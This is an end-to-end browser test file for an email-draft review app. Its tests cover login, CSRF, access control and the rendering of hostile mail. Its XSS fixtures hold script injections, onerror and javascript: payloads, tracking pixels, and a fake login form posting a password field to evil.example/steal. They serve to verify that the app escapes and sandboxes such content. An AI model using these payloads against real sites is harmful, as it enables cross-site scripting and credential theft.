import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, mkdirSync } from 'node:fs';
import { chromium, type Browser, type Page } from 'playwright-core';
import { uniquePrefix, wipePrefix } from '../harness/context.ts';
import { PASSWORD, seedDraft, startWeb, USERS, type WebFixture } from './web-fixture.ts';
import type { DraftRecord } from '../../src/model/draft-record.ts';

/**
 * The account lead's review flow in real headless Chromium against the real app on a random port and real
 * Redis. Screenshots land in test-output/screenshots/ (gitignored) for a human look.
 */
/** CI installs Debian's chromium; CHROMIUM_PATH points elsewhere (e.g. to prove the missing-browser message). */
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const SHOTS = 'test-output/screenshots';
const prefix = uniquePrefix('web-e2e');

let f: WebFixture;
let base: string;
let browser: Browser;
let angryTop: DraftRecord;
let angrySecond: DraftRecord;
let afterHours: DraftRecord;
let xss: DraftRecord;

const XSS_HTML = `
<p>Hello <b>team</b></p>
<script>window.__pwned = 1; parent.__pwned = 1;</script>
<img src="x" onerror="window.__pwned = 1; parent.__pwned = 1">
<img src="https://tracker.example/pixel.gif" alt="pixel">
<a href="javascript:window.__pwned=1;parent.__pwned=1" id="jslink">click me</a>
<svg onload="window.__pwned=1"></svg>
<iframe src="javascript:parent.__pwned=1"></iframe>
<form action="https://evil.example/steal"><input name="pw"><button>Login</button></form>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(javascript:alert(1))">overlay</div>
<style>body{background:url("https://tracker.example/css.gif")} *{behavior:url(x.htc)}</style>
<meta http-equiv="refresh" content="0;url=javascript:parent.__pwned=1">`;
const XSS_TEXT =
  'Hi! <script>window.__pwned=1</script> <img src=x onerror="window.__pwned=1"> ' +
  '<a href="javascript:window.__pwned=1">link</a> </pre><style>*{display:none}</style>';
const XSS_SUBJECT = '"><script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>';

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) {
    throw new Error(`Chromium not found at ${CHROMIUM}: install it with \`apt-get install chromium\``);
  }
  mkdirSync(SHOTS, { recursive: true });
  f = await startWeb(prefix);
  afterHours = await seedDraft(f, {
    kind: 'after-hours',
    fromName: 'Greta Holm',
    subject: 'Logo files for the print shop',
    text: 'Hi! Could you send the logo files in vector format for the print shop? Thanks, Greta',
    receivedAt: '2026-11-23T18:40:00Z',
  });
  angrySecond = await seedDraft(f, {
    kind: 'angry',
    priority: 0.62,
    fromName: 'Marco Rossi',
    subject: 'Still waiting for the staging link',
    text: 'This is the third time I ask for the staging link. Please sort it out today.',
    receivedAt: '2026-11-23T14:05:00Z',
  });
  angryTop = await seedDraft(f, {
    kind: 'angry-after-hours',
    priority: 0.93,
    fromName: 'Henrik Berg',
    subject: 'The website is DOWN again',
    text: 'Our website has been down for TWO HOURS during our biggest sale. This is completely unacceptable. I expect a call first thing tomorrow.',
    receivedAt: '2026-11-23T19:55:00Z',
  });
  await seedDraft(f, {
    kind: 'payment-reminder',
    fromName: 'Sofia Lind',
    subject: 'Invoice 2026-118',
    text: 'We will pay invoice 2026-118 by Friday.',
    categories: ['payment'],
    receivedAt: '2026-11-23T09:30:00Z',
  });
  base = await f.app.listen({ host: '127.0.0.1', port: 0 });
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'],
  });
});

afterAll(async () => {
  await browser?.close();
  await f?.close();
  await wipePrefix(prefix);
});

async function signedIn(email: string, viewport = { width: 1280, height: 800 }, javaScriptEnabled = true) {
  const context = await browser.newContext({ viewport, baseURL: base, javaScriptEnabled });
  const page = await context.newPage();
  await login(page, email, PASSWORD);
  await page.waitForURL(/\/queue$/);
  return { context, page };
}

async function login(page: Page, email: string, password: string) {
  await page.goto('/login');
  await page.getByLabel('Email').fill(email);
  await page.getByLabel('Password').fill(password);
  await page.getByRole('button', { name: 'Sign in' }).click();
}

const pwned = (p: Page) => p.evaluate(() => (window as unknown as { __pwned?: number }).__pwned);

describe('the account lead review flow in Chromium', () => {
  it('shows an error for a wrong password and stays on the login page', async () => {
    const context = await browser.newContext({ baseURL: base });
    const page = await context.newPage();
    await login(page, USERS.lead, 'wrong password');
    await expect(page.locator('#login-error').textContent()).resolves.toContain('Wrong email or password');
    expect(new URL(page.url()).pathname).toBe('/login');
    await page.screenshot({ path: `${SHOTS}/login-error-1280x800.png` });
    await context.close();
  });

  it('sets the session cookie HttpOnly, SameSite=Lax, Path=/', async () => {
    const { context } = await signedIn(USERS.lead);
    const cookie = (await context.cookies()).find((c) => c.name === 'tactful_session')!;
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/' });
    await context.close();
  });

  it('puts the angriest draft on top, then angry, after-hours and payment, with counts', async () => {
    const { context, page } = await signedIn(USERS.lead);
    const rows = await page
      .locator('.row')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-draft')));
    expect(rows[0]).toBe(angryTop.id);
    expect(rows[1]).toBe(angrySecond.id);
    const groups = await page
      .locator('section.group')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-group')));
    expect(groups).toEqual(['angry', 'after-hours', 'payment']);
    await expect(page.locator('[data-group-count="angry"]').textContent()).resolves.toBe('Angry: 2');
    await expect(page.locator('.row').first().textContent()).resolves.toContain('Tue 24 Nov, 09:00');
    await page.screenshot({ path: `${SHOTS}/queue-1280x800.png`, fullPage: false });
    await page.setViewportSize({ width: 390, height: 844 });
    await page.screenshot({ path: `${SHOTS}/queue-390x844.png`, fullPage: false });
    await context.close();
  });

  it('edits and approves the angry draft; it moves to Scheduled at the next opening', async () => {
    const { context, page } = await signedIn(USERS.lead);
    await page.locator('.row').first().locator('a.row-link').click();
    await page.waitForURL(new RegExp(`/drafts/${angryTop.id}$`));
    await expect(page.locator('#triage').textContent()).resolves.toContain('93%');
    await expect(page.locator('#goes-out').textContent()).resolves.toContain('Tue 24 Nov, 09:00');
    await page.screenshot({ path: `${SHOTS}/draft-1280x800.png`, fullPage: false });
    await page.setViewportSize({ width: 390, height: 844 });
    await page.screenshot({ path: `${SHOTS}/draft-390x844.png`, fullPage: true });
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.getByLabel('Subject').fill('Re: The website is down — we are on it');
    await page
      .getByLabel('Reply text')
      .fill('Dear Henrik,\n\nWe are sorry. We will call you at 09:00.\n\nLena');
    await page.getByRole('button', { name: 'Approve', exact: true }).click();
    await page.waitForURL(/\/queue$/);
    await expect(page.locator('.flash').textContent()).resolves.toContain('Tue 24 Nov, 09:00');
    expect(await page.locator(`.row[data-draft="${angryTop.id}"]`).count()).toBe(0);
    await page.getByRole('link', { name: 'Scheduled & sent' }).click();
    const row = page.locator(`#upcoming tr[data-draft="${angryTop.id}"]`);
    await expect(row.textContent()).resolves.toContain('Re: The website is down — we are on it');
    await expect(row.locator('.send-at').textContent()).resolves.toContain('Tue 24 Nov, 09:00');
    await page.screenshot({ path: `${SHOTS}/scheduled-1280x800.png` });
    const stored = (await f.drafts.get(angryTop.id))!;
    expect(stored).toMatchObject({ status: 'scheduled', sendAt: '2026-11-24T08:00:00.000Z' });
    expect(stored.body).toContain('We will call you at 09:00.');
    await context.close();
  });

  it('rejects with a reason with JavaScript switched off (plain forms)', async () => {
    const d = await seedDraft(f, { subject: 'No-JS reject' });
    const { context, page } = await signedIn(USERS.lead, undefined, false);
    await page.goto(`/drafts/${d.id}`);
    await page.locator('details.reject summary').click();
    await page.getByLabel('Reason (kept in the audit trail)').fill('answered by phone');
    await page.getByRole('button', { name: 'Reject', exact: true }).click();
    await page.waitForURL(/\/queue$/);
    await expect(page.locator('.flash').textContent()).resolves.toContain('Rejected');
    expect((await f.drafts.get(d.id))!.status).toBe('rejected');
    await page.goto('/audit');
    await expect(page.locator('#audit').textContent()).resolves.toContain('answered by phone');
    await page.screenshot({ path: `${SHOTS}/audit-1280x800.png` });
    await context.close();
  });

  it('goes to the next draft with the j shortcut', async () => {
    const { context, page } = await signedIn(USERS.lead);
    await page.goto(`/drafts/${angrySecond.id}`);
    await page.keyboard.press('j');
    await page.waitForURL((u) => !u.pathname.endsWith(angrySecond.id) && u.pathname.startsWith('/drafts/'));
    await context.close();
  });

  it('approves with Ctrl+Enter from inside the editor', async () => {
    const d = await seedDraft(f, { subject: 'Keyboard approval' });
    const { context, page } = await signedIn(USERS.lead);
    await page.goto(`/drafts/${d.id}`);
    await page.getByLabel('Reply text').focus();
    await page.keyboard.press('Control+Enter');
    await page.waitForURL(/\/queue$/);
    expect((await f.drafts.get(d.id))!.status).toBe('scheduled');
    await context.close();
  });

  it('shows new drafts without a reload', async () => {
    const { context, page } = await signedIn(USERS.lead);
    await page.evaluate(() => ((window as unknown as { __marker: number }).__marker = 1));
    const fresh = await seedDraft(f, { kind: 'angry', priority: 0.99, fromName: 'Live Arrival' });
    await page.locator(`.row[data-draft="${fresh.id}"]`).waitFor({ timeout: 15_000 });
    expect(await page.evaluate(() => (window as unknown as { __marker?: number }).__marker)).toBe(1);
    await context.close();
  });

  it('does not let a lead open a draft of an inbox they are not assigned to', async () => {
    const { context, page } = await signedIn(USERS.otherLead);
    const res = await page.goto(`/drafts/${afterHours.id}`);
    expect(res!.status()).toBe(404);
    expect(await page.content()).not.toContain('Logo files');
    expect(await page.locator('.row').count()).toBe(0);
    await context.close();
  });

  it('refuses a form POST whose CSRF token was removed (403)', async () => {
    const { context, page } = await signedIn(USERS.lead);
    await page.goto(`/drafts/${afterHours.id}`);
    await page.locator('#approve-form input[name="_csrf"]').evaluate((el) => el.remove());
    const [res] = await Promise.all([
      page.waitForResponse((r) => r.url().endsWith('/approve')),
      page.getByRole('button', { name: 'Approve', exact: true }).click(),
    ]);
    expect(res.status()).toBe(403);
    expect((await f.drafts.get(afterHours.id))!.status).toBe('pending');
    await context.close();
  });

  it('shows hostile mail without executing anything, in the page or in the sandboxed frame', async () => {
    xss = await seedDraft(f, {
      kind: 'after-hours',
      fromName: '<img src=x onerror=window.__pwned=1>',
      subject: XSS_SUBJECT,
      draftSubject: `Re: ${XSS_SUBJECT}`,
      text: XSS_TEXT,
      html: XSS_HTML,
      receivedAt: '2026-11-23T17:20:00Z',
    });
    const { context, page } = await signedIn(USERS.lead);
    const dialogs: string[] = [];
    const requests: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    // Requests that left the browser: finished, or failed for any reason but the CSP blocking them.
    page.on('requestfinished', (r) => requests.push(r.url()));
    page.on('requestfailed', (r) => {
      if (r.failure()?.errorText !== 'csp') requests.push(r.url());
    });
    expect(await page.content()).toContain('&lt;script&gt;window.__pwned=1&lt;/script&gt;');
    const trackerHits: number[] = [];
    for (const url of [`/drafts/${xss.id}`, `/drafts/${xss.id}?images=1`]) {
      requests.length = 0;
      await page.goto(url);
      await page.locator('details.html-version').evaluate((el) => ((el as HTMLDetailsElement).open = true));
      const frameEl = page.locator('iframe.message-frame');
      await expect(frameEl.getAttribute('sandbox')).resolves.toBe('');
      const handle = await frameEl.elementHandle();
      const inner = (await handle!.contentFrame())!;
      await inner.waitForLoadState('load');
      await expect(inner.locator('#jslink').textContent()).resolves.toBe('click me');
      await inner
        .locator('#jslink')
        .click({ force: true, timeout: 2000 })
        .catch(() => undefined);
      expect(await pwned(page)).toBeUndefined();
      expect(await inner.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
      expect(await page.locator('#message-text').textContent()).toContain(
        '<script>window.__pwned=1</script>',
      );
      await expect(page.locator('h1').textContent()).resolves.toBe(XSS_SUBJECT);
      trackerHits.push(requests.filter((u) => u.includes('tracker.example')).length);
    }
    expect(dialogs).toEqual([]);
    // Remote images (tracking pixels) are requested only after "load images".
    expect(trackerHits[0]).toBe(0);
    expect(trackerHits[1]).toBeGreaterThan(0);
    await context.close();
  });
});

describe('admin pages in Chromium', () => {
  it('shows inbox status and a working queue dashboard to admins only', async () => {
    const { context, page } = await signedIn(USERS.admin);
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.getByRole('link', { name: 'Admin' }).click();
    await expect(page.locator('table.data').textContent()).resolves.toContain('idle (connected)');
    await page.getByRole('link', { name: 'open the queue dashboard' }).click();
    await page.waitForURL(/\/admin\/queues/);
    await page.getByText('ingest', { exact: false }).first().waitFor({ timeout: 15_000 });
    expect(errors).toEqual([]);
    await context.close();
  });

  it('renders the OpenAPI description at /docs', async () => {
    const context = await browser.newContext({ baseURL: base });
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto('/docs');
    await page.locator('.opblock-summary-path').first().waitFor({ timeout: 15_000 });
    const paths = await page.locator('.opblock-summary-path').allTextContents();
    expect(paths.some((p) => p.includes('/api/drafts'))).toBe(true);
    expect(errors).toEqual([]);
    await context.close();
  });
});
